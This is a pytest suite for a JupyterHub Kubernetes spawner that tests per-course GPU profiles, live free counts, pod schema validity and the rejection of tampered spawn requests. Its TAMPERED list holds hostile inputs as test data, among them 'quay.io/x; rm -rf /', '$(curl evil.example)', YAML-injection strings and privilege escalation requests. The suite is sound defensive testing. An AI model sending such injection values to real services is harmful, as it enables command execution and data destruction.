"""Profiles on Kubernetes: per-course visibility, live free counts, valid pods, refused tampering.

A real hub in kubernetes mode spawns onto the fake cluster with whole-GPU, MIG-mixed, MIG-single,
time-sliced and CPU nodes. The pods the hub creates are validated against Kubernetes' OpenAPI
schema (kubernetes-validate) and compared with what each profile kind must ask for.
"""

from __future__ import annotations

import re
from typing import Any

import kubernetes_validate
import pytest

from hub_ext.core.resources import parse_quantity
from tests.kubefake import FakeCluster
from tests.kubefake.waiting import wait_for
from tests.kubehub import KubeHub, request_server, server_model, wait_stopped

pytestmark = pytest.mark.cluster

TORCH = "quay.io/jupyter/pytorch-notebook:cuda12-2025-06-01"
SCIPY = "quay.io/jupyter/scipy-notebook:2025-06-01"
GPU_TAINT = [{"key": "nvidia.com/gpu", "value": "present", "effect": "NoSchedule"}]

NODES = [
    {"name": "cpu-0", "allocatable": {"cpu": "16", "memory": "64Gi"}},
    {"name": "h200-0", "allocatable": {"cpu": "64", "memory": "512Gi", "nvidia.com/gpu": "2"},
     "labels": {"nvidia.com/gpu.product": "NVIDIA-H200"}, "taints": GPU_TAINT},
    {"name": "h200-mig-0",
     "allocatable": {"cpu": "64", "memory": "512Gi", "nvidia.com/mig-1g.18gb": "2"},
     "labels": {"nvidia.com/gpu.product": "NVIDIA-H200", "nvidia.com/mig.strategy": "mixed"},
     "taints": GPU_TAINT},
    {"name": "a100-single-0", "allocatable": {"cpu": "64", "memory": "512Gi", "nvidia.com/gpu": "2"},
     "labels": {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB-MIG-3g.40gb",
                "nvidia.com/mig.strategy": "single"}, "taints": GPU_TAINT},
    {"name": "l40s-0", "allocatable": {"cpu": "32", "memory": "256Gi", "nvidia.com/gpu.shared": "4"},
     "labels": {"nvidia.com/gpu.product": "NVIDIA-L40S",
                "nvidia.com/gpu.sharing-strategy": "time-slicing"}, "taints": GPU_TAINT},
    # MIG slices with media extensions (1g.10gb+me), as the device plugin advertises them
    {"name": "h100-me-0",
     "allocatable": {"cpu": "64", "memory": "512Gi", "nvidia.com/mig-1g.10gb.me": "2"},
     "labels": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3", "nvidia.com/mig.strategy": "mixed"},
     "taints": GPU_TAINT},
    # another vendor's GPUs, tainted with their resource name (ExtendedResourceToleration's key)
    {"name": "mi300-0", "allocatable": {"cpu": "64", "memory": "512Gi", "amd.com/gpu": "2"},
     "taints": [{"key": "amd.com/gpu", "value": "present", "effect": "NoSchedule"}]},
]

CONFIG = f"""
c.DemoAuthenticator.accounts = demo.DEMO_ACCOUNTS + ["bob", "carol", "dave", "erin"]
c.JupyterHub.load_groups = {{
    "cs101": {{"users": ["student1", "student2", "ta1"]}},
    "cs102": {{"users": ["bob", "carol"]}},
    "cs103": {{"users": ["dave", "erin"]}},
}}
c.ClasshubKubeSpawner.profiles = [
    {{"slug": "cpu", "kind": "cpu", "default": True, "images": [{SCIPY!r}]}},
    {{"slug": "a-gpu", "kind": "gpu", "gpu_product": "NVIDIA-H200", "groups": ["cs101"],
     "cpu_guarantee": "1", "cpu_limit": "2", "mem_guarantee": "1Gi", "mem_limit": "2Gi",
     "shm_size": "1Gi", "images": [{TORCH!r}, {SCIPY!r}]}},
    {{"slug": "a-mig", "kind": "mig", "mig_profile": "1g.18gb", "groups": ["cs101"],
     "images": [{TORCH!r}]}},
    {{"slug": "b-mig-single", "kind": "mig", "mig_profile": "3g.40gb", "mig_strategy": "single",
     "gpu_product": "NVIDIA-A100-SXM4-80GB", "groups": ["cs102"], "images": [{TORCH!r}]}},
    {{"slug": "b-shared", "kind": "shared", "groups": ["cs102"], "images": [{TORCH!r}],
     "tolerations": [{{"key": "course", "operator": "Equal", "value": "cs102",
                      "effect": "NoSchedule"}}]}},
    {{"slug": "c-mig-me", "kind": "mig", "mig_profile": "1g.10gb+me", "groups": ["cs103"],
     "images": [{TORCH!r}]}},
    {{"slug": "c-amd", "kind": "shared", "gpu_resource": "amd.com/gpu", "groups": ["cs103"],
     "images": [{TORCH!r}]}},
]
"""


@pytest.fixture(scope="module")
def cluster(tmp_path_factory):
    with FakeCluster(nodes=NODES) as fake:  # stand-in containers: pods answer on their IP at once
        fake.write_kubeconfig(tmp_path_factory.mktemp("kube") / "config")
        yield fake


@pytest.fixture(scope="module")
def hub(cluster, tmp_path_factory):
    hub = KubeHub(tmp_path_factory.mktemp("kubeprofiles"), cluster.kubeconfig_path,
                  start_timeout=30, extra_config=CONFIG)
    hub.start()
    yield hub
    hub.stop()


def offers(session) -> dict[str, str]:
    page = session.get(f"/hub/spawn/{session.username}")
    assert page.status_code == 200
    found = re.findall(r'data-profile="([a-z0-9-]+)".*?class="classhub-free">([^<]*)<', page.text, re.S)
    return dict(found)


def start(session, options) -> dict[str, Any]:
    r = request_server(session, {"user_options": options})
    assert r.status_code in (201, 202), r.text
    return wait_for(lambda: (m := server_model(session)) and m.get("ready") and m, timeout=40,
                    what=f"{session.username}'s server")


def stop(session) -> None:
    session.hub_api("DELETE", f"users/{session.username}/server")
    wait_stopped(session, 30)


def test_each_course_sees_its_profiles_and_live_free_counts(hub, cluster):
    s1, s2, ta, bob = (hub.login(u) for u in ("student1", "student2", "ta1", "bob"))
    a = offers(s1)
    assert list(a) == ["cpu", "a-gpu", "a-mig"]
    assert a["a-gpu"] == "2 free now" and a["a-mig"] == "2 free now"
    b = offers(bob)
    assert list(b) == ["cpu", "b-mig-single", "b-shared"]
    assert b["b-mig-single"] == "2 free now"
    c = offers(hub.login("dave"))  # a slice with media extensions; another vendor's GPUs
    assert list(c) == ["cpu", "c-mig-me", "c-amd"]
    assert c["c-mig-me"] == "2 free now" and c["c-amd"] == "2 free now"
    # b-shared needs a toleration for a taint no node has: it fits the 4 shared GPUs all the same.
    assert b["b-shared"] == "4 free now"

    start(s2, {"profile": "a-mig"})
    assert offers(s1)["a-mig"] == "1 free now"
    start(ta, {"profile": "a-mig"})
    page = s1.get("/hub/spawn/student1").text
    assert offers(s1)["a-mig"] == "0 free now"
    assert re.search(r'id="profile-a-mig"\s+value="a-mig"\s+disabled', page)
    assert "none free right now" in page
    assert offers(bob)["b-mig-single"] == "2 free now"  # course B's counts are its own
    stop(s2)
    assert offers(s1)["a-mig"] == "1 free now"
    stop(ta)


EXPECTED = {
    "student1": ("a-gpu", {"nvidia.com/gpu": "1", "cpu": "2", "memory": "2Gi"},
                 {"nvidia.com/gpu.product": "NVIDIA-H200"}, ["nvidia.com/gpu"], TORCH, "h200-0"),
    "student2": ("a-mig", {"nvidia.com/mig-1g.18gb": "1"}, {},
                 ["nvidia.com/gpu", "nvidia.com/mig-1g.18gb"], TORCH, "h200-mig-0"),
    "bob": ("b-shared", {"nvidia.com/gpu.shared": "1"}, {},
            ["course", "nvidia.com/gpu", "nvidia.com/gpu.shared"], TORCH, "l40s-0"),
    "carol": ("b-mig-single", {"nvidia.com/gpu": "1"},
              {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB-MIG-3g.40gb"},
              ["nvidia.com/gpu"], TORCH, "a100-single-0"),
    "dave": ("c-mig-me", {"nvidia.com/mig-1g.10gb.me": "1"}, {},
             ["nvidia.com/gpu", "nvidia.com/mig-1g.10gb.me"], TORCH, "h100-me-0"),
    "erin": ("c-amd", {"amd.com/gpu": "1"}, {}, ["amd.com/gpu"], TORCH, "mi300-0"),
    "teacher1": ("cpu", {}, {}, [], SCIPY, "cpu-0"),
}


def test_pods_of_every_kind_are_valid_and_ask_for_the_right_things(hub, cluster):
    sessions = {user: hub.login(user) for user in EXPECTED}
    for user, (profile, *_rest) in EXPECTED.items():
        start(sessions[user], {"profile": profile})
    version = kubernetes_validate.latest_version()
    for user, (profile, limits, selector, toleration_keys, image, node) in EXPECTED.items():
        pod = cluster.get("pods", f"jupyter-{user}", "default")
        kubernetes_validate.validate(pod, version, strict=True)
        spec = pod["spec"]
        container = spec["containers"][0]
        resources = container["resources"]
        for name, value in limits.items():
            assert parse_quantity(resources["limits"][name]) == parse_quantity(value), (user, resources)
            if "/" in name:  # an extended resource: request = limit
                assert resources["requests"][name] == value, (user, resources)
        assert not any(k.startswith("nvidia.com/") for k in resources.get("limits", {})
                       if k not in limits), (user, resources)
        assert (spec.get("nodeSelector") or {}) == selector, user
        keys = sorted(t["key"] for t in spec.get("tolerations", [])
                      if not t["key"].startswith(("node.kubernetes.io/", "hub.jupyter.org/")))
        assert keys == toleration_keys, (user, spec.get("tolerations"))
        assert container["image"] == image
        env = {e["name"]: e.get("value") for e in container.get("env", [])}
        assert env["CLASSHUB_PROFILE"] == profile
        assert ("NVIDIA_VISIBLE_DEVICES" in env) == (profile == "cpu")
        assert spec["nodeName"] == node, (user, spec.get("nodeName"))
    shm = [v for v in cluster.get("pods", "jupyter-student1", "default")["spec"]["volumes"]
           if v["name"] == "dshm"]
    assert shm == [{"name": "dshm", "emptyDir": {"medium": "Memory", "sizeLimit": "1Gi"}}]
    for session in sessions.values():
        stop(session)


TAMPERED = [
    {"profile": "b-shared"},  # another course's profile
    {"profile": "b-mig-single"},
    {"profile": "no-such-profile"},
    {"profile": "a-gpu", "gpus": 8},  # unknown option
    {"profile": "a-gpu", "privileged": True},
    {"profile": "a-gpu", "namespace": "kube-system"},
    {"profile": "a-gpu", "memory": "-1Gi"},
    {"profile": "a-gpu", "memory": "4Ei"},
    {"profile": "a-gpu", "memory": "3Gi"},  # above the profile's limit
    {"profile": "a-gpu", "memory": "1e99"},
    {"profile": "a-gpu", "cpu": "0"},
    {"profile": "a-gpu", "cpu": "64"},
    {"profile": "a-gpu", "cpu": "two"},
    {"profile": "a-gpu", "image": "docker.io/library/ubuntu:latest"},
    {"profile": "a-gpu", "image": "quay.io/x; rm -rf /"},
    {"profile": "a-gpu", "image": "$(curl evil.example)"},
    {"profile": "a-gpu", "image": "img:1\ncommand: [sh]"},
    {"profile": "a-gpu", "image": "{privileged: true}"},
    {"profile": "a-gpu\nnodeName: cpu-0"},
    {"profile": "a-gpu", "memory": {"$ne": 1}},
    {"profile": ["a-gpu"]},
    {"profile": 3},
]


def test_tampered_rest_spawns_get_400_and_nothing_reaches_the_cluster(hub, cluster):
    student = hub.login("student1")
    creates_before = [r for r in cluster.requests if r[0] == "POST"]
    for options in TAMPERED:
        r = request_server(student, {"user_options": options})
        assert r.status_code == 400, (options, r.status_code, r.text)
        message = r.json()["message"]
        assert message.startswith("Cannot start this server:"), (options, message)
        assert server_model(student) is None
    creates_after = [r for r in cluster.requests if r[0] == "POST"]
    assert creates_after == creates_before, creates_after[len(creates_before):]
    assert cluster.get("pods", "jupyter-student1", "default") is None


def test_the_hub_froze_its_startup_heap_once_running(hub):
    """configure() in a jupyterhub_config.py (the z2jh way) freezes the hub's heap once the hub
    runs (hub_ext.heap): full garbage collections no longer walk its imports."""
    log = hub.log_path.read_text(errors="replace")
    assert log.index("froze the hub's startup heap") > log.index("JupyterHub is now running")
    assert log.count("froze the hub's startup heap") == 1
